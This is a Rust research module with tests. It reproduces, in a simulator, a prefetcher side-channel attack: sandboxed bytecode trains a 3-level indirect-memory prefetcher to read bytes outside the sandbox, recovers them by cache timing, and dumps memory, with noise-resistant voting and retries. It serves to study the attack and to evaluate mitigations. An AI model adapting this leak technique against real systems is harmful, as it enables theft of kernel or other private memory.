//! The universal read gadget through the 3-level indirect-memory
//! prefetcher, from inside the verified sandbox (§I Fig 1, §V-B Fig 7).
//!
//! The attacker's sandbox program is the Fig 7a loop
//! `for (i..N-1) X[Y[Z[i]]]` with all the null checks the verifier
//! demands — so it is **architecturally memory-safe**. The attacker:
//!
//! 1. fills `Z[0..N-1]` with small varying indices to train the IMP's
//!    base/scale solver, and plants `Z[N-1] = target`, where `target`
//!    is the distance from `Y`'s base to the private byte it wants
//!    (`secret = Y[target]` in the prefetcher's arithmetic);
//! 2. runs the loop: demand accesses stay in bounds, but the IMP
//!    prefetches `Δ` ahead, dereferences `Z[N-1]`, reads the private
//!    byte `s = mem[base_Y + target]`, and fills the line
//!    `X + 64·s` — transmitting `s` over the cache;
//! 3. recovers `s` with a timed probe loop over `X`'s 256 lines —
//!    itself verified sandbox code using the clock helper.
//!
//! Repeating with different `target`s dumps arbitrary memory: a
//! universal read gadget with no victim gadget required. The 2-level
//! IMP performs only one dependent fill, so the private *value* never
//! reaches an attacker-visible address (§IV-D4) — asserted by the
//! workspace tests.

use pandora_channels::retry::{RetryError, RetryPolicy};
use pandora_channels::stats::Summary;
use pandora_isa::Asm;
use pandora_sandbox::{
    compile, BpfAluOp, BpfProgram, BpfReg, Cmp, Inst, MapDef, SandboxLayout, Src,
};
use pandora_sim::{
    FaultPlan, Machine, NoiseConfig, OptConfig, PrefetchFill, SimConfig, SimError, TraceEvent,
};

const SANDBOX_BASE: u64 = 0x4_0000;
/// Stream array length (Fig 7a's N).
const Z_LEN: u64 = 16;
/// Training index values cycle through `train_base + (i mod 3)`.
const TRAIN_MOD: u64 = 3;

const MAP_Z: usize = 0;
const MAP_Y: usize = 1;
const MAP_X: usize = 2;
const MAP_R: usize = 3;

fn r(i: u8) -> BpfReg {
    BpfReg(i)
}

/// The attacker's sandbox program: trigger loop plus timed probe.
fn attacker_program() -> BpfProgram {
    let mut p = BpfProgram::new(vec![
        MapDef::new("Z", 8, Z_LEN),
        MapDef::new("Y", 1, 64),
        MapDef::new("X", 64, 256),
        MapDef::new("R", 8, 256),
    ]);

    // ---- Trigger: for (i = 0; i < N-1; i++) touch X[Y[Z[i]]] --------
    p.push(Inst::MovImm { dst: r(1), imm: 0 }); // 0: i = 0
    let loop_head = p.insts.len(); // 1
    p.push(Inst::Lookup {
        dst: r(2),
        map: MAP_Z,
        idx: r(1),
    });
    let cont = 11; // the "next iteration" landing pad below
    p.push(Inst::JmpIf {
        cmp: Cmp::Eq,
        a: r(2),
        b: Src::Imm(0),
        target: cont,
    });
    p.push(Inst::LoadInd {
        dst: r(3),
        ptr: r(2),
    }); // z = Z[i]
    p.push(Inst::Lookup {
        dst: r(4),
        map: MAP_Y,
        idx: r(3),
    });
    p.push(Inst::JmpIf {
        cmp: Cmp::Eq,
        a: r(4),
        b: Src::Imm(0),
        target: cont,
    });
    p.push(Inst::LoadInd {
        dst: r(5),
        ptr: r(4),
    }); // y = Y[z]
    p.push(Inst::Lookup {
        dst: r(6),
        map: MAP_X,
        idx: r(5),
    });
    p.push(Inst::JmpIf {
        cmp: Cmp::Eq,
        a: r(6),
        b: Src::Imm(0),
        target: cont,
    });
    p.push(Inst::LoadInd {
        dst: r(7),
        ptr: r(6),
    }); // touch X[y]
    p.push(Inst::MovReg { dst: r(0), src: r(7) }); // keep it live
    // 11: the landing pad — i++; loop while i < N-1.
    assert_eq!(p.insts.len(), cont);
    p.push(Inst::Alu {
        op: BpfAluOp::Add,
        dst: r(1),
        src: Src::Imm(1),
    });
    p.push(Inst::JmpIf {
        cmp: Cmp::Lt,
        a: r(1),
        b: Src::Imm(Z_LEN - 1),
        target: loop_head,
    });

    // ---- Probe: time each of X's 256 lines in permuted order --------
    // for (k = 0; k < 256; k++) { idx = (k*167) & 255; R[idx] = time(X[idx]) }
    p.push(Inst::MovImm { dst: r(1), imm: 0 }); // k
    let probe_head = p.insts.len();
    p.push(Inst::MovReg { dst: r(2), src: r(1) });
    p.push(Inst::Alu {
        op: BpfAluOp::Mul,
        dst: r(2),
        src: Src::Imm(167),
    });
    p.push(Inst::Alu {
        op: BpfAluOp::And,
        dst: r(2),
        src: Src::Imm(255),
    }); // idx
    p.push(Inst::ReadClock { dst: r(3) }); // t0
    p.push(Inst::Lookup {
        dst: r(4),
        map: MAP_X,
        idx: r(2),
    });
    let probe_next = p.insts.len() + 7;
    p.push(Inst::JmpIf {
        cmp: Cmp::Eq,
        a: r(4),
        b: Src::Imm(0),
        target: probe_next,
    });
    p.push(Inst::LoadInd {
        dst: r(5),
        ptr: r(4),
    });
    p.push(Inst::ReadClock { dst: r(6) }); // t1
    p.push(Inst::Alu {
        op: BpfAluOp::Sub,
        dst: r(6),
        src: Src::Reg(r(3)),
    }); // dt
    p.push(Inst::Lookup {
        dst: r(7),
        map: MAP_R,
        idx: r(2),
    });
    p.push(Inst::JmpIf {
        cmp: Cmp::Eq,
        a: r(7),
        b: Src::Imm(0),
        target: probe_next,
    });
    p.push(Inst::StoreInd {
        ptr: r(7),
        src: r(6),
    });
    assert_eq!(p.insts.len(), probe_next);
    p.push(Inst::Alu {
        op: BpfAluOp::Add,
        dst: r(1),
        src: Src::Imm(1),
    });
    p.push(Inst::JmpIf {
        cmp: Cmp::Lt,
        a: r(1),
        b: Src::Imm(256),
        target: probe_head,
    });
    p.push(Inst::Exit);
    p
}

/// The result of one leak attempt.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct LeakRun {
    /// X lines observed hot, excluding the training lines.
    pub candidates: Vec<u8>,
    /// Raw per-line probe timings.
    pub timings: Vec<u64>,
    /// The sandbox's architectural address range.
    pub sandbox: (u64, u64),
}

/// The universal-read-gadget attack harness.
#[derive(Clone, Debug)]
pub struct UrgAttack {
    cfg: SimConfig,
    layout: SandboxLayout,
    prog: BpfProgram,
    plants: Vec<(u64, u8)>,
    /// Fault plan installed on every leak run (noise injection for
    /// robustness experiments).
    fault_plan: Option<FaultPlan>,
}

impl UrgAttack {
    /// Configures the attack with an IMP of `levels` indirection levels
    /// (3 = the URG; 2 = the §IV-D4 non-URG comparison).
    ///
    /// # Panics
    ///
    /// Panics if the attacker program fails the verifier — it must not;
    /// passing verification is the point (§V-B1).
    #[must_use]
    pub fn new(levels: u8) -> UrgAttack {
        UrgAttack::with_fill(levels, PrefetchFill::AllLevels)
    }

    /// Like [`UrgAttack::new`] but controlling where prefetches install
    /// lines. `PrefetchFill::L2Only` models the §V-B3 *prefetch buffer*
    /// mitigation: fills stay out of the L1, but the receiver simply
    /// observes the unbuffered L2 — the attack still lands.
    ///
    /// # Panics
    ///
    /// Panics if the attacker program fails the verifier — it must not.
    #[must_use]
    pub fn with_fill(levels: u8, fill: PrefetchFill) -> UrgAttack {
        UrgAttack::with_fill_and_distance(levels, fill, 4)
    }

    /// Full configuration: indirection levels, fill policy, and the
    /// prefetch distance Δ (for the §IV-D4 leak-window sweep).
    ///
    /// # Panics
    ///
    /// Panics if the attacker program fails the verifier — it must not.
    #[must_use]
    pub fn with_fill_and_distance(levels: u8, fill: PrefetchFill, distance: u64) -> UrgAttack {
        let prog = attacker_program();
        let layout = SandboxLayout::at(SANDBOX_BASE, &prog.maps);
        pandora_sandbox::verify(&prog).expect("the Fig 7a program passes the verifier");
        let mut opts = OptConfig::with_dmp(levels);
        opts.dmp_fill = fill;
        opts.dmp_distance = distance;
        UrgAttack {
            cfg: SimConfig::with_opts(opts),
            layout,
            prog,
            plants: Vec::new(),
            fault_plan: None,
        }
    }

    /// Installs (or clears) a fault plan applied to every subsequent
    /// leak run — used to model a disturbed machine when exercising
    /// retry-based recovery.
    pub fn set_fault_plan(&mut self, plan: Option<FaultPlan>) {
        self.fault_plan = plan;
    }

    /// Sets the environmental-noise configuration of every subsequent
    /// leak run (see `pandora_sim::noise`); the noise-tolerant
    /// [`UrgAttack::leak_byte_votes`] varies its seed per round.
    pub fn set_noise(&mut self, noise: NoiseConfig) {
        self.cfg.noise = noise;
    }

    /// Plants a "private" byte in simulated memory for the experiment
    /// (standing in for kernel data the attacker wants; the attack code
    /// itself never architecturally reads it).
    pub fn plant_secret(&mut self, addr: u64, byte: u8) {
        self.plants.push((addr, byte));
    }

    /// The machine configuration in use.
    #[must_use]
    pub fn config(&self) -> &SimConfig {
        &self.cfg
    }

    /// The sandbox memory layout.
    #[must_use]
    pub fn layout(&self) -> &SandboxLayout {
        &self.layout
    }

    /// The verified attacker bytecode.
    #[must_use]
    pub fn program(&self) -> &BpfProgram {
        &self.prog
    }

    /// Runs one leak attempt against the byte at `secret_addr` (which
    /// must lie outside the sandbox), using `train_base` (and the two
    /// following values) as the in-bounds training indices. Returns the
    /// probe results and the finished machine for inspection.
    ///
    /// # Panics
    ///
    /// Panics on harness bugs (layout out of memory) or simulator
    /// failures; use [`UrgAttack::try_run`] to recover from the latter.
    #[must_use]
    pub fn run(&self, secret_addr: u64, train_base: u64) -> (LeakRun, Machine) {
        self.try_run(secret_addr, train_base)
            .expect("URG leak run completed abnormally")
    }

    /// Fallible form of [`UrgAttack::run`]: simulator failures
    /// (timeouts, deadlocks under injected faults) surface as errors
    /// instead of panicking.
    ///
    /// # Errors
    ///
    /// Any [`SimError`] from the leak run.
    ///
    /// # Panics
    ///
    /// Panics on harness bugs (secret inside the sandbox, layout out of
    /// memory).
    pub fn try_run(
        &self,
        secret_addr: u64,
        train_base: u64,
    ) -> Result<(LeakRun, Machine), SimError> {
        let mut asm = Asm::new();
        compile(&mut asm, "urg", &self.prog, &self.layout).expect("verified program compiles");
        asm.halt();
        let isa = asm.assemble().expect("URG program assembles");

        let mut m = Machine::new(self.cfg);
        m.enable_trace();
        m.load_program(&isa);

        let (lo, hi) = self.layout.region();
        assert!(
            secret_addr < lo || secret_addr >= hi,
            "secret must be outside the sandbox"
        );
        for &(addr, byte) in &self.plants {
            m.mem_mut().write_u8(addr, byte).expect("secret in memory");
        }
        let z = self.layout.map_base(MAP_Z);
        let y = self.layout.map_base(MAP_Y);
        // Training: Z holds small varying in-bounds indices; the last
        // element is the attacker-chosen out-of-bounds target.
        for i in 0..Z_LEN - 1 {
            m.mem_mut()
                .write_u64(z + 8 * i, train_base + i % TRAIN_MOD)
                .expect("Z in memory");
        }
        let target = secret_addr - y; // index such that &Y[target] = secret
        m.mem_mut()
            .write_u64(z + 8 * (Z_LEN - 1), target)
            .expect("Z in memory");
        // Y's training entries hold varying in-bounds X indices.
        for j in 0..64u64 {
            m.mem_mut()
                .write_u8(y + j, (train_base + j % TRAIN_MOD) as u8)
                .expect("Y in memory");
        }
        if let Some(plan) = &self.fault_plan {
            m.inject_faults(plan.clone());
        }
        m.run(50_000_000)?;

        let timings = pandora_channels::read_timings(&m, self.layout.map_base(MAP_R), 256);
        let candidates = self.classify(&timings, train_base);
        Ok((
            LeakRun {
                candidates,
                timings,
                sandbox: self.layout.region(),
            },
            m,
        ))
    }

    /// Classifies probe timings into hot lines, excluding the training
    /// lines (which demand accesses legitimately warmed).
    fn classify(&self, timings: &[u64], train_base: u64) -> Vec<u8> {
        let s = Summary::of(timings);
        let min = timings.iter().copied().min().unwrap_or(0);
        let threshold = min + ((s.mean - min as f64) / 2.0) as u64;
        let trained: Vec<u64> = (0..TRAIN_MOD).map(|d| train_base + d).collect();
        timings
            .iter()
            .enumerate()
            .filter_map(|(i, &t)| {
                (t < threshold && !trained.contains(&(i as u64))).then_some(i as u8)
            })
            .collect()
    }

    /// Intersects the candidate sets of two runs with disjoint
    /// training sets: a byte leaks only if it is the single line hot
    /// in both (training lines differ between the runs, so they never
    /// survive).
    fn intersect(run1: &LeakRun, run2: &LeakRun) -> Option<u8> {
        let both: Vec<u8> = run1
            .candidates
            .iter()
            .copied()
            .filter(|c| run2.candidates.contains(c))
            .collect();
        match both.as_slice() {
            [b] => Some(*b),
            _ => None,
        }
    }

    /// Leaks one private byte: runs the attack with two disjoint
    /// training sets and intersects the candidate sets, eliminating
    /// training-line ambiguity.
    #[must_use]
    pub fn leak_byte(&self, secret_addr: u64) -> Option<u8> {
        let (run1, _) = self.run(secret_addr, 1);
        let (run2, _) = self.run(secret_addr, 4);
        UrgAttack::intersect(&run1, &run2)
    }

    /// Repetition-coded [`UrgAttack::leak_byte`]: repeats the
    /// two-training-set leak `redundancy` times — each round under a
    /// distinct noise seed, so every repetition faces a fresh
    /// interference pattern — and returns the per-round bytes for
    /// [`majority_vote`](pandora_channels::majority_vote). A round
    /// disturbed into an ambiguous candidate set votes as an erasure
    /// rather than poisoning the result. Round `r`'s seed does not
    /// depend on the redundancy, so round 0 is a single noisy leak
    /// (the unhardened baseline).
    ///
    /// The two training runs *within* a round are seeded differently:
    /// the intersection filters noise by assuming spurious hot lines
    /// differ between runs, so the two environments must be
    /// decorrelated — under a shared seed, fill noise warms the same
    /// false lines in both runs and survives the intersection.
    ///
    /// # Errors
    ///
    /// The first [`SimError`] from a leak run that fails outright.
    pub fn leak_byte_votes(
        &self,
        secret_addr: u64,
        redundancy: usize,
    ) -> Result<Vec<Option<u8>>, SimError> {
        let mut votes = Vec::with_capacity(redundancy.max(1));
        for r in 0..redundancy.max(1) as u64 {
            let base = self
                .cfg
                .noise
                .seed
                .wrapping_add(r.wrapping_mul(0x9e37_79b9_7f4a_7c15));
            let mut round = self.clone();
            round.cfg.noise.seed = base;
            let (run1, _) = round.try_run(secret_addr, 1)?;
            round.cfg.noise.seed = base.wrapping_add(0x0100_0193);
            let (run2, _) = round.try_run(secret_addr, 4)?;
            votes.push(UrgAttack::intersect(&run1, &run2));
        }
        Ok(votes)
    }

    /// Like [`UrgAttack::leak_byte`], but the two leak runs (training
    /// bases 1 and 4) are retried under `policy` with **failed runs
    /// only** re-dispatched: a run that fails with a [`SimError`] (e.g.
    /// a deadlock under an injected fault) is re-run on a clean machine
    /// — disturbances are transient, so retries drop the installed
    /// fault plan.
    ///
    /// # Errors
    ///
    /// [`RetryError::Sim`] if a run could not complete within
    /// `policy.max_attempts` (carrying the lower training base's error
    /// when both failed).
    pub fn leak_byte_with_retry(
        &self,
        secret_addr: u64,
        policy: &RetryPolicy,
    ) -> Result<Option<u8>, RetryError> {
        const TRAIN_BASES: [u64; 2] = [1, 4];
        let mut clean = self.clone();
        clean.fault_plan = None;
        let runs = policy.retry_failed(TRAIN_BASES.len(), |pending, attempt| {
            let atk = if attempt == 0 { self } else { &clean };
            pending
                .iter()
                .map(|&i| atk.try_run(secret_addr, TRAIN_BASES[i]).map(|(run, _)| run))
                .collect()
        })?;
        Ok(UrgAttack::intersect(&runs[0], &runs[1]))
    }

    /// The universal read gadget: dumps `len` bytes starting at `addr`
    /// by sweeping the target (§IV-D4's "the attacker can leak all
    /// memory outside the sandbox").
    #[must_use]
    pub fn dump(&self, addr: u64, len: usize) -> Vec<Option<u8>> {
        (0..len as u64).map(|i| self.leak_byte(addr + i)).collect()
    }

    /// All addresses the prefetcher dereferenced during `machine`'s
    /// run, from the trace — the §IV-D4 reach analysis.
    #[must_use]
    pub fn deref_addresses(machine: &Machine) -> Vec<u64> {
        machine
            .trace()
            .events()
            .iter()
            .filter_map(|e| match *e {
                TraceEvent::DmpDeref { addr, .. } => Some(addr),
                _ => None,
            })
            .collect()
    }
}

impl Default for UrgAttack {
    fn default() -> UrgAttack {
        UrgAttack::new(3)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use pandora_channels::majority_vote;

    /// A private location well outside the sandbox.
    const SECRET_ADDR: u64 = 0x20_0000;

    fn attack(levels: u8, secret: u8) -> UrgAttack {
        let mut atk = UrgAttack::new(levels);
        atk.plant_secret(SECRET_ADDR, secret);
        atk
    }

    #[test]
    fn attacker_program_passes_the_verifier() {
        assert!(pandora_sandbox::verify(&attacker_program()).is_ok());
    }

    #[test]
    fn three_level_imp_leaks_a_private_byte() {
        let atk = attack(3, 0xA7);
        assert_eq!(atk.leak_byte(SECRET_ADDR), Some(0xA7));
    }

    #[test]
    fn three_level_derefs_reach_the_secret() {
        let atk = attack(3, 0x5C);
        let (_, m) = atk.run(SECRET_ADDR, 1);
        let derefs = UrgAttack::deref_addresses(&m);
        assert!(
            derefs.contains(&SECRET_ADDR),
            "3-level IMP must dereference the private address"
        );
    }

    #[test]
    fn two_level_imp_is_not_a_urg() {
        // With the 2-level IMP the private value never modulates an
        // attacker-visible address: candidate sets are identical for
        // different secrets.
        let (r1, m1) = attack(2, 0x11).run(SECRET_ADDR, 1);
        let (r2, _) = attack(2, 0xEE).run(SECRET_ADDR, 1);
        assert_eq!(
            r1.candidates, r2.candidates,
            "2-level probe results must not depend on the secret"
        );
        // And the prefetcher's dereferences stay within the stream's
        // reach: [sandbox, sandbox_end + Δ elements).
        let (_, hi) = r1.sandbox;
        let delta_bytes = 8 * attack(2, 0).config().opts.dmp_distance;
        for a in UrgAttack::deref_addresses(&m1) {
            assert!(
                a < hi + delta_bytes,
                "2-level deref at {a:#x} beyond the stream window"
            );
        }
    }

    #[test]
    fn prefetch_buffer_does_not_mitigate() {
        // §V-B3: keeping prefetch fills out of the L1 only moves the
        // receiver to the L2 — the timed probe still separates the
        // secret's line (L2 hit) from cold lines (DRAM).
        let mut atk = UrgAttack::with_fill(3, PrefetchFill::L2Only);
        atk.plant_secret(SECRET_ADDR, 0xB3);
        assert_eq!(atk.leak_byte(SECRET_ADDR), Some(0xB3));
    }

    #[test]
    fn retry_leaks_byte_despite_injected_wedge() {
        use pandora_sim::FaultKind;
        let mut atk = attack(3, 0x42);
        // Every first-attempt run wedges; retries run clean.
        atk.set_fault_plan(Some(FaultPlan::single(500, FaultKind::DroppedCompletion)));
        let got = atk
            .leak_byte_with_retry(SECRET_ADDR, &RetryPolicy::default())
            .unwrap();
        assert_eq!(got, Some(0x42));
    }

    #[test]
    fn vote_leaks_byte_under_cache_and_timer_noise() {
        let mut atk = attack(3, 0x6D);
        // Whole-memory interference (a loud co-tenant touching
        // everything, including the probe array X), plus a coarse,
        // jittery clock behind the sandbox's ReadClock helper. The
        // 256-line probe needs this dilution — window the same
        // intensity onto the sandbox alone and every line is disturbed
        // several times per run, which no amount of voting fixes.
        atk.set_noise(NoiseConfig::at_intensity(30, 23));
        let got = majority_vote(
            &atk.leak_byte_votes(SECRET_ADDR, 5)
                .expect("noisy leak rounds complete"),
        );
        assert_eq!(got, Some(0x6D), "majority vote must survive the noise");
    }

    #[test]
    fn urg_dumps_multiple_bytes() {
        let mut atk = UrgAttack::new(3);
        let secret = [0x13u8, 0x77, 0xC4];
        for (i, &b) in secret.iter().enumerate() {
            atk.plant_secret(SECRET_ADDR + i as u64, b);
        }
        assert_eq!(
            atk.dump(SECRET_ADDR, 3),
            vec![Some(0x13), Some(0x77), Some(0xC4)]
        );
    }
}
